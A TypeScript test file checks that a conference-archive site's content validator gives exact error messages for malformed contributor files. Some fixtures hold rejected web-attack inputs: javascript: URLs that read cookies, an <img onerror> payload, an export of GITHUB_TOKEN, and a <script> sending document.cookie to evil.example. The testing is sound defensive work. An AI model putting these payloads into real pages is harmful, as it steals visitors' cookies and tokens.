/**
 * Malformed contributor content: each fixture under tests/fixtures/malformed/<case>/ is
 * one broken file laid over a small valid archive (tests/fixtures/base-content/). The
 * whole message a contributor would see is pinned, so it keeps naming the exact file,
 * line, column and field, what was found, what is expected, and how to fix it.
 */
import { cpSync, mkdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadArchive } from '../../src/archive.ts';
import { formatMessage, formatMessages, MAX_FOUND_CHARS } from '../../src/messages/format.ts';
import { contentMessage } from '../../src/messages/message.ts';

const FIXTURES = new URL('../fixtures/', import.meta.url).pathname;
const WORK = new URL('../.output/malformed/', import.meta.url).pathname;

/** Lay a malformed fixture over the base archive and report what a contributor would read. */
async function report(name: string): Promise<string> {
  const root = join(WORK, name);
  rmSync(root, { recursive: true, force: true });
  mkdirSync(root, { recursive: true });
  cpSync(join(FIXTURES, 'base-content'), root, { recursive: true });
  cpSync(join(FIXTURES, 'malformed', name), root, { recursive: true });
  const { messages } = await loadArchive({ root });
  return formatMessages(messages);
}

describe('the base archive', () => {
  it('is valid, so every error below comes from its fixture', async () => {
    expect((await loadArchive({ root: join(FIXTURES, 'base-content') })).messages).toEqual([]);
  });
});

describe('malformed content', () => {
  it('aliases-unknown-target', async () => {
    expect(await report('aliases-unknown-target')).toMatchInlineSnapshot(`
      "content/speakers/aliases.yaml:3:15  warning: No source spells a speaker "J. Doe"
        field:    people.0.aliases.0
        found:    J. Doe
        expected: a spelling exactly as a session, correction or contributed session writes it
        fix:      Copy the spelling from the session page or data/sessions.json, or remove it if no source uses it.

      content/speakers/aliases.yaml:5:11  Alias entry for "Grace Hopper" points at an unknown speaker
        field:    people.1.name
        found:    Grace Hopper, Amazing Grace
        expected: at least one name exactly as a session lists it
        fix:      Copy the spelling from the session page or data/sessions.json; names are matched exactly."
    `);
  });

  it('aliases-wrong-type', async () => {
    expect(await report('aliases-wrong-type')).toMatchInlineSnapshot(`
      "content/speakers/aliases.yaml:3:14  Wrong value for "people.0.aliases"
        field:    people.0.aliases
        found:    "J. Doe"
        expected: a list
        fix:      Change this value to a list."
    `);
  });

  it('correction-bad-key', async () => {
    expect(await report('correction-bad-key')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:1:1  "Streams in Practice" is not a valid key here
        field:    Streams in Practice
        found:    Streams in Practice
        expected: a session id such as kafka-summit-2020/kafka-for-kids
        fix:      Correct the key; see the comment at the top of the file for the expected form."
    `);
  });

  it('correction-duplicate-id', async () => {
    expect(await report('correction-duplicate-id')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:4:1  This key appears twice in the file
        field:    mini-summit-2021/streams-in-practice
        found:    a second entry with the same key
        expected: each key once
        fix:      Merge the two entries into one."
    `);
  });

  it('correction-ftp-url', async () => {
    expect(await report('correction-ftp-url')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:4:13  Wrong value for "mini-summit-2021/operating-kafka-at-scale.links.slides"
        field:    mini-summit-2021/operating-kafka-at-scale.links.slides
        found:    "ftp://files.example.org/slides.pdf"
        expected: an absolute http(s) URL such as https://www.youtube.com/watch?v=…
        fix:      Change this value to an absolute http(s) URL such as https://www.youtube.com/watch?v=."
    `);
  });

  it('correction-javascript-url', async () => {
    expect(await report('correction-javascript-url')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:4:12  Wrong value for "mini-summit-2021/operating-kafka-at-scale.links.video"
        field:    mini-summit-2021/operating-kafka-at-scale.links.video
        found:    "javascript:alert(document.cookie)"
        expected: an absolute http(s) URL such as https://www.youtube.com/watch?v=…
        fix:      Change this value to an absolute http(s) URL such as https://www.youtube.com/watch?v=."
    `);
  });

  it('correction-missing-reason', async () => {
    expect(await report('correction-missing-reason')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:2:3  Missing field "mini-summit-2021/operating-kafka-at-scale.reason"
        field:    mini-summit-2021/operating-kafka-at-scale.reason
        found:    nothing (the field is missing)
        expected: a text value
        fix:      Add "reason:" here."
    `);
  });

  it('correction-contributed-session', async () => {
    expect(await report('correction-contributed-session')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:1:1  "mini-summit-2021/tables-in-five-minutes" is a contributed session: it is corrected in its own file, content/sessions/tables-in-five-minutes.mdx
        field:    mini-summit-2021/tables-in-five-minutes
        found:    mini-summit-2021/tables-in-five-minutes
        expected: the id of a session parsed from this summit's listing
        fix:      Make the change in content/sessions/tables-in-five-minutes.mdx (with its provenance), and remove this entry: corrections apply to sessions parsed from a listing, which is never edited."
    `);
  });

  it('correction-missing-session', async () => {
    expect(await report('correction-missing-session')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:1:1  Correction for a session that does not exist: "mini-summit-2021/streams-in-practise"
        field:    mini-summit-2021/streams-in-practise
        found:    mini-summit-2021/streams-in-practise
        expected: the id of a session of this summit (mini-summit-2021/…), as shown on its page and in data/sessions.json
        fix:      Did you mean "mini-summit-2021/streams-in-practice"?"
    `);
  });

  it('correction-unknown-field', async () => {
    expect(await report('correction-unknown-field')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:3:3  Unknown field "titel": did you mean "title"?
        field:    mini-summit-2021/streams-in-practice.titel
        found:    titel
        expected: reason, provenance, title, speakers (each: name, affiliation, role), track, links (video, slides), topics (add, remove), description (drop, replace), hide
        fix:      Rename "titel" to "title"."
    `);
  });

  it('correction-unknown-track', async () => {
    expect(await report('correction-unknown-track')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:3:10  Unknown track "lightning"
        field:    mini-summit-2021/operating-kafka-at-scale.track
        found:    lightning
        expected: one of talks
        fix:      Use the track id from the track page address (/summits/<summit>/<track>/)."
    `);
  });

  it('correction-wrong-type', async () => {
    expect(await report('correction-wrong-type')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:3:13  Wrong value for "mini-summit-2021/streams-in-practice.speakers"
        field:    mini-summit-2021/streams-in-practice.speakers
        found:    "Jane Doe"
        expected: a list
        fix:      Change this value to a list."
    `);
  });

  it('profile-bad-url', async () => {
    expect(await report('profile-bad-url')).toMatchInlineSnapshot(`
      "content/speakers/profiles/jane-doe.md:4:10  Wrong value for "links.0.url"
        field:    links.0.url
        found:    "javascript:alert(1)"
        expected: an absolute http(s) URL such as https://www.youtube.com/watch?v=…
        fix:      Change this value to an absolute http(s) URL such as https://www.youtube.com/watch?v=."
    `);
  });

  it('profile-unknown-speaker', async () => {
    expect(await report('profile-unknown-speaker')).toMatchInlineSnapshot(`
      "content/speakers/profiles/jane-dough.md:1:1  Profile for an unknown speaker "jane-dough"
        field:    (file name)
        found:    jane-dough.md
        expected: a file named after an existing speaker id, as in /speakers/<id>/
        fix:      Rename the file to the id in the speaker page address."
    `);
  });

  it('session-bad-date', async () => {
    expect(await report('session-bad-date')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:5:7  Wrong value for "date"
        field:    date
        found:    "2021-13-45"
        expected: a date written YYYY-MM-DD, such as 2020-08-24
        fix:      Change this value to a date written YYYY-MM-DD, such as 2020-08-24."
    `);
  });

  it('session-duplicate-id', async () => {
    expect(await report('session-duplicate-id')).toMatchInlineSnapshot(`
      "content/sessions/operating-kafka-at-scale.mdx:1:1  Duplicate session id "mini-summit-2021/operating-kafka-at-scale": content/summits/mini-summit-2021/listing.txt:19 already has it
        field:    (file name)
        found:    mini-summit-2021/operating-kafka-at-scale
        expected: an id no other session uses
        fix:      If the session is already in the archive, correct it in the summit corrections file instead; otherwise rename this file."
    `);
  });

  it('session-mdx-component', async () => {
    expect(await report('session-mdx-component')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:10:1  <Tweet> is not allowed in contributor content
        field:    <Tweet>
        found:    <Tweet id="123456" />
        expected: Markdown, or one of <Video>, <Slides>, <Quote>
        fix:      Use one of <Video>, <Slides>, <Quote>, or plain Markdown."
    `);
  });

  it('session-mdx-export', async () => {
    expect(await report('session-mdx-export')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:8:1  \`export\` is not allowed in contributor content
        field:    export
        found:    export const secret = process.env.GITHUB_TOKEN
        expected: Markdown and the components <Video>, <Slides>, <Quote>, which need no import
        fix:      Remove the export line; the allowed components are available without importing them."
    `);
  });

  it('session-mdx-expression', async () => {
    expect(await report('session-mdx-expression')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:8:46  JavaScript expressions \`{…}\` are not allowed in contributor content
        field:    expression
        found:    {new Date().getFullYear()}
        expected: plain text
        fix:      Remove the braces, or escape a literal brace as "\\{"."
    `);
  });

  it('session-mdx-img-onerror', async () => {
    expect(await report('session-mdx-img-onerror')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:8:1  <img> is not allowed in contributor content
        field:    <img>
        found:    <img src="x" onerror="alert(1)" />
        expected: Markdown, or one of <Video>, <Slides>, <Quote>
        fix:      Raw HTML is not accepted; write the same thing in Markdown."
    `);
  });

  it('session-mdx-import', async () => {
    expect(await report('session-mdx-import')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:7:1  \`import\` is not allowed in contributor content
        field:    import
        found:    import Chart from '../../src/components/Chart.astro'
        expected: Markdown and the components <Video>, <Slides>, <Quote>, which need no import
        fix:      Remove the import line; the allowed components are available without importing them."
    `);
  });

  it('session-mdx-javascript-link', async () => {
    expect(await report('session-mdx-javascript-link')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:8:5  Links must use http(s), found "javascript:alert(document.cookie)"
        field:    link
        found:    javascript:alert(document.cookie)
        expected: an absolute http(s) URL, mailto:, #anchor, or a site path starting with / such as /speakers/jun-rao/
        fix:      Link to the full https:// address or a site path; javascript:, data: and other schemes are not accepted."
    `);
  });

  it('session-mdx-onerror', async () => {
    expect(await report('session-mdx-onerror')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:10:1  Event handler "onError" is not allowed on <Video>
        field:    Video.onError
        found:    onError
        expected: one of url, title
        fix:      Remove "onError"."
    `);
  });

  it('session-mdx-script', async () => {
    expect(await report('session-mdx-script')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:10:1  <script> is not allowed in contributor content
        field:    <script>
        found:    <script>fetch('https://evil.example/?c=' + document.cooki…
        expected: Markdown, or one of <Video>, <Slides>, <Quote>
        fix:      Raw HTML is not accepted; write the same thing in Markdown."
    `);
  });

  it('session-missing-frontmatter', async () => {
    expect(await report('session-missing-frontmatter')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:1:1  The file has no frontmatter
        field:    (frontmatter)
        found:    no "---" line at the top
        expected: a YAML block between two lines that read exactly "---", at the top of the file
        fix:      Start the file with "---", the fields, and "---"; \`npm run new:session\` writes a valid one."
    `);
  });

  it('session-missing-title', async () => {
    expect(await report('session-missing-title')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:2:1  Missing field "title"
        field:    title
        found:    nothing (the field is missing)
        expected: a text value
        fix:      Add "title:" here."
    `);
  });

  it('session-speaker-wrong-type', async () => {
    expect(await report('session-speaker-wrong-type')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:6:5  Wrong value for "speakers.0"
        field:    speakers.0
        found:    "Jane Doe"
        expected: a mapping
        fix:      Change this value to a mapping."
    `);
  });

  it('session-unknown-summit', async () => {
    expect(await report('session-unknown-summit')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:2:9  Unknown summit "mini-summit-2022"
        field:    summit
        found:    mini-summit-2022
        expected: one of mini-summit-2021
        fix:      Use the folder name of the summit under content/summits/."
    `);
  });

  it('session-unknown-track', async () => {
    expect(await report('session-unknown-track')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:3:8  Unknown track "keynotes" for Mini Summit 2021
        field:    track
        found:    keynotes
        expected: one of talks
        fix:      Use the track id from the track page address (/summits/<summit>/<track>/)."
    `);
  });

  it('summit-bad-yaml', async () => {
    expect(await report('summit-bad-yaml')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:6:1  This is not valid YAML: Sequence item without - indicator
        fix:      Check the indentation and quoting on this line; values containing ": " or starting with a special character need quotes."
    `);
  });

  it('summit-missing-field', async () => {
    expect(await report('summit-missing-field')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:1:1  Missing field "name"
        field:    name
        found:    nothing (the field is missing)
        expected: a text value
        fix:      Add "name:" here."
    `);
  });

  it('summit-track-missing-name', async () => {
    expect(await report('summit-track-missing-name')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:5:5  Missing field "tracks.0.name"
        field:    tracks.0.name
        found:    nothing (the field is missing)
        expected: a text value
        fix:      Add "name:" here."
    `);
  });

  it('summit-unknown-field', async () => {
    expect(await report('summit-unknown-field')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:4:1  Unknown field "venue"
        field:    venue
        found:    venue
        expected: name, series, year, city, tagline, listing, tracks (each: heading, name), style, furniture (each: line, startsWith, pattern, trailing, block, keep; reason, note)
        fix:      Remove "venue" or correct its spelling."
    `);
  });

  it('summit-heading-near-miss', async () => {
    expect(await report('summit-heading-near-miss')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:5:14  Track heading "TALKS" does not occur in content/summits/mini-summit-2021/listing.txt
        field:    tracks.0.heading
        found:    TALKS (the listing has "Talks" at line 5)
        expected: a heading exactly as the listing writes it, on a line of its own with no indent
        fix:      Write the heading as the listing does: "Talks" (line 5). The listing stays as scraped; the name shown on pages is the track's "name"."
    `);
  });

  it('summit-unknown-heading', async () => {
    expect(await report('summit-unknown-heading')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:7:14  Track heading "Lightning Talks" does not occur in content/summits/mini-summit-2021/listing.txt
        field:    tracks.1.heading
        found:    Lightning Talks
        expected: a heading exactly as the listing writes it, on a line of its own with no indent
        fix:      Copy the heading exactly as it is written in listing.txt, on a line of its own with no indent."
    `);
  });

  it('summit-wrong-type', async () => {
    expect(await report('summit-wrong-type')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/summit.yaml:2:7  Wrong value for "year"
        field:    year
        found:    "twenty twenty-one"
        expected: a number
        fix:      Change this value to a number."
    `);
  });

  it('session-typo-hides-nothing', async () => {
    expect(await report('session-typo-hides-nothing')).toMatchInlineSnapshot(`
      "content/sessions/stream-tables.mdx:3:8  Unknown track "keynotes" for Mini Summit 2021
        field:    track
        found:    keynotes
        expected: one of talks
        fix:      Use the track id from the track page address (/summits/<summit>/<track>/).

      content/sessions/stream-tables.mdx:5:1  Unknown field "provenence": did you mean "provenance"?
        field:    provenence
        found:    provenence
        expected: summit, track, title, speakers (each: name, affiliation, role), date, links (video, slides), topics, provenance
        fix:      Rename "provenence" to "provenance"."
    `);
  });

  it('correction-short-reason', async () => {
    expect(await report('correction-short-reason')).toMatchInlineSnapshot(`
      "content/summits/mini-summit-2021/corrections.yaml:2:11  Wrong value for "mini-summit-2021/streams-in-practice.reason"
        field:    mini-summit-2021/streams-in-practice.reason
        found:    "Because."
        expected: a text of at least 10 characters
        fix:      Change this value to a text of at least 10 characters."
    `);
  });

  it('aliases-unused-spelling', async () => {
    expect(await report('aliases-unused-spelling')).toMatchInlineSnapshot(`
      "content/speakers/aliases.yaml:3:15  warning: No source spells a speaker "Jane Do"
        field:    people.0.aliases.0
        found:    Jane Do
        expected: a spelling exactly as a session, correction or contributed session writes it
        fix:      Copy the spelling from the session page or data/sessions.json, or remove it if no source uses it.

      content/speakers/aliases.yaml:6:15  warning: No source spells a speaker "Jon Roe"
        field:    people.1.aliases.0
        found:    Jon Roe
        expected: a spelling exactly as a session, correction or contributed session writes it
        fix:      Copy the spelling from the session page or data/sessions.json, or remove it if no source uses it."
    `);
  });
});

describe('the formatter', () => {
  it('prints at most MAX_FOUND_CHARS of found text, and says how much it left out', () => {
    const found = `${'x'.repeat(MAX_FOUND_CHARS)}${'y'.repeat(5000)}`;
    const text = formatMessage(contentMessage({ file: 'content/summits/a/listing.txt', line: 3, column: 5, message: 'A long line', found, hint: 'Shorten it.' }));
    expect(text).toContain(`found:    ${'x'.repeat(MAX_FOUND_CHARS)}… (5000 more characters)`);
    expect(text).not.toContain('y');
  });
});
